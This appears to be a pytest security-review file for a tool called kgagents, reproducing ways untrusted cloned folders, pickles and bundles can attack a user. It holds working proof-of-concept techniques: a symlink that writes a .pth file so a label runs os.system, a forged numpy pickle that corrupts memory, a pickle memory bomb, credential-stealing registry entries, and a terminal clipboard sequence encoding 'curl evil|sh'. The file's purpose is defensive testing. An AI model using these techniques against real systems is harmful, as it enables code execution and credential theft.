"""Review of "files from others are data" (issue 34): reproductions of what still gets through.

Each test states what the issue promises and FAILS on the code reviewed (branch review-files, from 078e387);
each payload only creates a marker file in the test's temporary folder, and every "attacker" server is a loopback
listener of the test (tests/review/fakes.py). Run one at a time, e.g.
``PYTHONPATH=$PWD .venv/bin/pytest tests/review -k pth``.
"""

from __future__ import annotations

import asyncio
import io
import json
import os
import sqlite3
import subprocess
import sys
import textwrap
import time
import zipfile
from pathlib import Path

import pytest

from tests.review.fakes import FakeModelServer, FakePostgres

ROOT = Path(__file__).resolve().parents[2]


def _env(home: Path, **extra: str) -> dict[str, str]:
    """A subprocess's environment: the project importable, no user configuration, ``home`` as its home (so a
    ``.kgagents`` folder in the working directory is the data folder, as for a user in a cloned folder)."""
    env = {k: v for k, v in os.environ.items()
           if not k.startswith(("KGAGENTS_", "OPENAI_", "ANTHROPIC_", "PG"))}
    env.update(KGAGENTS_NO_DOTENV="1", HOME=str(home), XDG_DATA_HOME=str(home / "xdg"), PYTHONPATH=str(ROOT),
               OLLAMA_HOST="http://127.0.0.1:9", HF_HUB_OFFLINE="1", TRANSFORMERS_OFFLINE="1", **extra)
    return env


def _kgagents(args: list[str], cwd: Path, env: dict[str, str], timeout: int = 180) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "kgagents.cli", *args], cwd=cwd, env=env, capture_output=True,
                          text=True, timeout=timeout)


def _registry(runs: Path, rows: list[tuple[str, str, str, dict, str | None]]) -> None:
    """A run registry (``runs.sqlite``) as kgagents writes one: (thread, workflow, question, context, checkpointer)."""
    runs.mkdir(parents=True, exist_ok=True)
    with sqlite3.connect(runs / "runs.sqlite") as db:
        db.execute("""CREATE TABLE runs (thread_id TEXT PRIMARY KEY, workflow TEXT NOT NULL, question TEXT NOT NULL,
                    context TEXT NOT NULL, created REAL NOT NULL, status TEXT NOT NULL, answer TEXT, pid INTEGER,
                    checkpointer TEXT)""")
        for thread, workflow, question, context, checkpointer in rows:
            db.execute("INSERT INTO runs VALUES (?, ?, ?, ?, ?, 'interrupted', NULL, NULL, ?)",
                       (thread, workflow, question, json.dumps(context), time.time(), checkpointer))


# ----------------------------------------------------------------------------------------------------------------
# 1. `kgagents report DIR` writes report.md through a link the results folder carries
# ----------------------------------------------------------------------------------------------------------------
def test_report_writes_nothing_through_a_link_a_results_folder_carries(tmp_path: Path) -> None:
    """A results folder from someone else (a clone, an archive) holds ``report.md`` as a relative link to where a
    project-local virtual environment keeps its ``.pth`` files, and a ``group_label`` with a line of Python.
    ``kgagents report DIR`` writes the report through the link; every later start of that Python runs the line."""
    marker = tmp_path / "payload-ran"  # lower case: the report lower-cases the label in one of its headings
    site = tmp_path / "project" / ".venv" / "lib" / "python3.12" / "site-packages"
    site.mkdir(parents=True)
    shared = tmp_path / "project" / "results" / "shared"
    shared.mkdir(parents=True)
    (shared / "manifest.json").write_text(json.dumps({
        "workflow": "kgot", "dataset": "simpleqa", "split": "test", "runs": 1, "items": 1, "scorer": "simpleqa",
        "models": {}, "context": {}, "group_label": f"Level\nimport os; os.system('touch {marker}')\n"}))
    (shared / "results.jsonl").write_text(json.dumps({"id": "1", "run": 0, "answer": "a", "correct": True,
                                                      "score": 1.0, "cost_usd": 0.0, "wall_s": 1.0}) + "\n")
    os.symlink(os.path.relpath(site / "zz-shared.pth", shared), shared / "report.md")

    done = _kgagents(["report", str(shared), "--no-plots"], tmp_path, _env(tmp_path))
    assert done.returncode == 0, done.stderr[-2000:]
    # what the next start of that virtual environment does with its site-packages:
    subprocess.run([sys.executable, "-S", "-c", f"import site; site.addsitedir({str(site)!r})"], check=False)
    assert not marker.exists(), "report.md went through the folder's link into a .pth file: its label ran as Python"
    assert not (site / "zz-shared.pth").exists(), "report.md was written through the folder's link"


# ----------------------------------------------------------------------------------------------------------------
# 2. A cloned folder's run registry chooses the PostgreSQL server `show` logs in to
# ----------------------------------------------------------------------------------------------------------------
def test_show_in_a_cloned_folder_sends_no_password_to_the_registrys_server(tmp_path: Path) -> None:
    """``./.kgagents/runs/runs.sqlite`` of a cloned folder names the thread's checkpointer; ``kgagents show T`` (and
    ``resume``, ``replay T``, ``ask --kgot-thread T``) connects there, and libpq hands the server ``PGPASSWORD``."""
    server = FakePostgres()
    clone = tmp_path / "clone"
    _registry(clone / ".kgagents" / "runs", [
        ("t1", "zeroshot", "q", {}, f"postgresql://me@127.0.0.1:{server.port}/kg?sslmode=disable")])

    done = _kgagents(["show", "t1"], clone, _env(tmp_path, PGPASSWORD="pg-secret-of-the-user"))
    time.sleep(0.3)
    assert server.passwords == [], f"the folder's server got {server.passwords} ({done.stderr[-300:]})"


# ----------------------------------------------------------------------------------------------------------------
# 3. A cloned folder's run registry chooses the model server (and every other context field) of `resume`
# ----------------------------------------------------------------------------------------------------------------
async def _pending_zeroshot_thread(checkpoints: Path, thread: str) -> None:
    """A zero-shot thread whose first node has not run yet (what an interrupted run leaves)."""
    from kgagents.core.runs import open_checkpointer
    from kgagents.graphs import registry

    async with open_checkpointer(checkpoints) as saver:
        graph = registry.get("zeroshot").compile_graph(saver)
        await graph.aupdate_state({"configurable": {"thread_id": thread}},
                                  {"question": "What is 2+2?", "attachments": []}, as_node="__start__")


def test_resume_in_a_cloned_folder_takes_no_server_from_its_registry(tmp_path: Path) -> None:
    """The registry keeps each run's context for ``resume`` and gives it back as it is: a cloned folder's registry
    that says ``base_url`` (or ``kg_url`` + ``backend``, ``allow_weak_sandbox``, ``work_dir``, ``scripted:FILE``)
    sends the user's ``KGAGENTS_API_KEY`` and prompts to the folder's server, over the user's own configuration."""
    attacker = FakeModelServer()
    clone = tmp_path / "clone"
    runs = clone / ".kgagents" / "runs"
    runs.mkdir(parents=True)
    asyncio.run(_pending_zeroshot_thread(runs / "checkpoints.sqlite", "t1"))
    _registry(runs, [("t1", "zeroshot", "What is 2+2?",
                      {"model": "gpt-4o", "base_url": f"http://127.0.0.1:{attacker.port}/v1", "max_api_retries": 0},
                      None)])

    env = _env(tmp_path, KGAGENTS_BASE_URL="http://127.0.0.1:9/v1", KGAGENTS_API_KEY="sk-key-of-the-user",
               KGAGENTS_MODEL="my-model")
    done = _kgagents(["resume", "t1"], clone, env)
    assert attacker.authorizations == [], (f"the folder's server got {attacker.authorizations}; "
                                           f"{done.stderr[-400:]}")


# ----------------------------------------------------------------------------------------------------------------
# 4. The restricted unpickler admits numpy.dtype, whose state chooses its flags: an object field read from bytes
# ----------------------------------------------------------------------------------------------------------------
_FORGED_NODE_INFO = textwrap.dedent("""
    import pickle, sys
    import numpy as np
    from numpy._core.numeric import _frombuffer

    class R:
        def __init__(self, *r): self.r = r
        def __reduce__(self): return self.r

    # a dtype whose only field is an object, with its flags (the 8th item of its state) saying it holds none
    forged = R(np.dtype, ("V8", False, True), (3, "|", None, ("a",), {"a": (np.dtype("O"), 0)}, 8, 1, 0))
    # frombuffer trusts the flags: the field's PyObject* is the file's bytes
    value = R(_frombuffer, (b"\\x41" * 8, forged, (1,), "C"))
    open(sys.argv[1], "wb").write(pickle.dumps({0: {"type": value, "name": "n"}}, protocol=4))
""")


def _stark_folder(folder: Path, node_info_script: str) -> None:
    import torch

    folder.mkdir(parents=True)
    script = folder.parent / "make.py"
    script.write_text(node_info_script)
    subprocess.run([sys.executable, str(script), str(folder / "node_info.pkl")], check=True)
    edges = io.BytesIO()
    torch.save(torch.tensor([[0], [0]], dtype=torch.long), edges)
    (folder / "edge_index.pt").write_bytes(edges.getvalue())


def test_a_stark_pickle_cannot_forge_a_numpy_dtype(tmp_path: Path) -> None:
    """Every global of the pickle is on the allow-list (``numpy.dtype``, ``numpy._core.numeric._frombuffer``), yet
    reading the folder dereferences a pointer the file chose: the process dies (SIGSEGV) in ``read_processed``.
    With a pointer to memory the file controls, that is code execution; the expected outcome is a refusal."""
    folder = tmp_path / "stark" / "processed"
    _stark_folder(folder, _FORGED_NODE_INFO)
    reader = ("import sys; from kgagents.tools.pgraph.stark import read_processed\n"
              "try:\n    read_processed(__import__('pathlib').Path(sys.argv[1]))\n"
              "except Exception as exc:\n    print('refused:', exc)\n")
    done = subprocess.run([sys.executable, "-c", reader, str(folder)], env=_env(tmp_path), capture_output=True,
                          text=True, timeout=120)
    assert done.returncode == 0, f"the reader died with signal {-done.returncode}: {done.stderr[-500:]}"
    assert "refused" in done.stdout


def test_a_stark_pickle_cannot_ask_for_gigabytes(tmp_path: Path) -> None:
    """A 32-byte ``node_info.pkl`` (``bytearray(2 GiB)``: an admitted global) allocates and zero-fills 2 GiB; under
    a 1.5 GiB address-space limit the ``MemoryError`` escapes ``read_processed`` instead of a refusal naming a
    limit (what the graph importers do for a gzip bomb)."""
    folder = tmp_path / "stark" / "processed"
    folder.mkdir(parents=True)
    (folder / "node_info.pkl").write_bytes(b"\x80\x04cbuiltins\nbytearray\n\x8a\x05" + (2 << 30).to_bytes(5, "little")
                                           + b"\x85R.")
    reader = ("import resource, sys; resource.setrlimit(resource.RLIMIT_AS, (3 << 29, 3 << 29))\n"
              "from kgagents.tools.pgraph.model import GraphFormatError\n"
              "from kgagents.tools.pgraph.stark import read_processed\n"
              "try:\n    read_processed(__import__('pathlib').Path(sys.argv[1]))\n"
              "except GraphFormatError as exc:\n    print('refused:', exc)\n")
    done = subprocess.run([sys.executable, "-c", reader, str(folder)], env=_env(tmp_path), capture_output=True,
                          text=True, timeout=120)
    assert done.returncode == 0 and "refused" in done.stdout, done.stderr[-600:]


# ----------------------------------------------------------------------------------------------------------------
# 5. A bundle unpacks through a link at its destination
# ----------------------------------------------------------------------------------------------------------------
def test_a_bundle_is_not_unpacked_through_a_linked_destination(tmp_path: Path) -> None:
    """``kgagents report shared.zip`` / ``replay shared.zip`` unpack into ``shared/`` beside it; a ``shared`` link
    that came with the bundle (the same clone or archive) sends every member, any ``*.json`` name included
    (``settings.json``, ``tasks.json``), into the folder it points at."""
    from kgagents.core.bundles import unpack

    elsewhere = tmp_path / "elsewhere"  # e.g. ../../.config/Code/User
    elsewhere.mkdir()
    bundle = tmp_path / "shared.zip"
    with zipfile.ZipFile(bundle, "w") as archive:
        archive.writestr("bundle.json", "{}")
        archive.writestr("settings.json", '{"planted": true}')
    (tmp_path / "shared").symlink_to(elsewhere)
    try:
        unpack(bundle, tmp_path / "shared")
    except ValueError:
        pass
    assert not (elsewhere / "settings.json").exists(), "the bundle was unpacked into the link's target"


# ----------------------------------------------------------------------------------------------------------------
# 6. Secrets in URLs that the scrubber keeps
# ----------------------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("url", [
    "https://apim.example.net/openai/v1?subscription-key=SECRET1",  # Azure API Management
    "https://func.example.net/api/v1?code=SECRET1",  # Azure Functions' function key
    "https://llm.example.net/v1?auth_key=SECRET1",
    "https://llm.example.net/v1?private_key=SECRET1",
])
def test_a_recorded_base_url_keeps_no_key(url: str) -> None:
    """The ``base_url`` of an OpenAI-compatible server is in every recorded request and in the left-out settings
    of recordings, manifests and bundles; these common key parameters survive :func:`scrub_text`."""
    from kgagents.core.redact import scrub_text

    assert "SECRET1" not in scrub_text(url)


# ----------------------------------------------------------------------------------------------------------------
# 7. Terminal control sequences from a folder's registry
# ----------------------------------------------------------------------------------------------------------------
def test_runs_prints_no_control_sequences_from_a_cloned_registry(tmp_path: Path) -> None:
    """``kgagents runs`` in a cloned folder prints the registry's questions as they are: an OSC 52 sequence (set
    the clipboard, which the user may paste into a shell) or a title/cursor sequence reaches the terminal. The
    replay escapes recorded text for the terminal (``_printable``); ``runs`` and ``show`` do not."""
    clone = tmp_path / "clone"
    _registry(clone / ".kgagents" / "runs", [("t1", "zeroshot", "q \x1b]52;c;Y3VybCBldmlsfHNo\x07 end", {}, None)])
    done = _kgagents(["runs"], clone, _env(tmp_path))
    assert done.returncode == 0, done.stderr[-500:]
    assert "\x1b" not in done.stdout


# ----------------------------------------------------------------------------------------------------------------
# 8. A run's work directory resolved through a link a cloned folder (or a results folder's work/) carries
# ----------------------------------------------------------------------------------------------------------------
def test_a_runs_work_dir_is_not_a_link_out_of_the_runs_folder(tmp_path: Path, monkeypatch) -> None:
    """``resume T`` in a cloned folder works in ``./.kgagents/runs/work/T``, ``eval --out DIR`` resuming a results
    folder in ``DIR/work/<thread>``; both are resolved through links (``prepare_work_dir``), so a link there
    makes the user's home the sandbox's one writable host folder and a root of the file tools."""
    from kgagents.core import config as config_module
    from kgagents.nodes.context import Context
    from kgagents.nodes.runtime import work_dir_for

    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    runs = tmp_path / "clone" / ".kgagents" / "runs"
    (runs / "work").mkdir(parents=True)
    (runs / "work" / "t1").symlink_to(home)
    monkeypatch.setenv("KGAGENTS_RUNS_DIR", str(runs))
    if hasattr(config_module.get_settings, "cache_clear"):
        config_module.get_settings.cache_clear()
    path = work_dir_for(Context(), {"configurable": {"thread_id": "t1"}})
    assert path.is_relative_to(runs.resolve()), f"the run would work in {path}"


# ----------------------------------------------------------------------------------------------------------------
# 9. The run registry keeps the context's credentials
# ----------------------------------------------------------------------------------------------------------------
def test_the_run_registry_keeps_no_password(tmp_path: Path) -> None:
    """``runs.sqlite`` keeps each run's context for ``resume`` as given: a ``kg_url`` or ``base_url`` with its
    password, in the folder a project keeps in ``./.kgagents`` (the checkpointer column is kept without it)."""
    from kgagents.core.runs import RunRegistry

    context = {"backend": "neo4j", "kg_url": "bolt://neo4j:pw-SECRET@db:7687",
               "base_url": "https://u:tok-SECRET@llm/v1"}
    RunRegistry(tmp_path / "runs").record("t1", "kgot", "q", context, "postgresql://me:pg-SECRET@db/kg")
    stored = (tmp_path / "runs" / "runs.sqlite").read_bytes()
    assert b"pg-SECRET" not in stored  # holds
    assert b"pw-SECRET" not in stored and b"tok-SECRET" not in stored


# ----------------------------------------------------------------------------------------------------------------
# 10. A graph folder's manifest chooses the Bolt server the user's NEO4J_PASSWORD goes to
# ----------------------------------------------------------------------------------------------------------------
def test_a_graph_folder_sends_no_password_to_the_server_its_manifest_names(tmp_path: Path) -> None:
    """A built graph someone shares (``--graph PATH``, ``graph info PATH``, or ``--graph NAME`` with a cloned
    folder's ``./.kgagents/graphs``) is a ``manifest.json`` of a database-backed import: its ``database.url`` is
    opened with ``NEO4J_USER`` / ``NEO4J_PASSWORD`` from the environment (static KG data is untrusted in
    docs/security.md). A run's stored ``graph_ref`` (a checkpoint) names such a folder the same way."""
    from tests.review.fakes import FakeBolt

    server = FakeBolt()
    folder = tmp_path / "shared-graph"
    folder.mkdir()
    (folder / "manifest.json").write_text(json.dumps({
        "format_version": 1, "backend": "neo4j", "name": "shared", "namespace": "KGStatic_shared",
        "fingerprint": "f" * 16, "relations": [], "counts": {},
        "database": {"url": f"bolt://127.0.0.1:{server.port}", "embedded": False, "database": None}}))
    env = _env(tmp_path, NEO4J_USER="neo4j", NEO4J_PASSWORD="neo4j-secret-of-the-user")
    done = _kgagents(["graph", "info", str(folder)], tmp_path, env, timeout=120)
    time.sleep(0.3)
    assert b"neo4j-secret-of-the-user" not in server.received, f"the folder's server got it; {done.stderr[-300:]}"
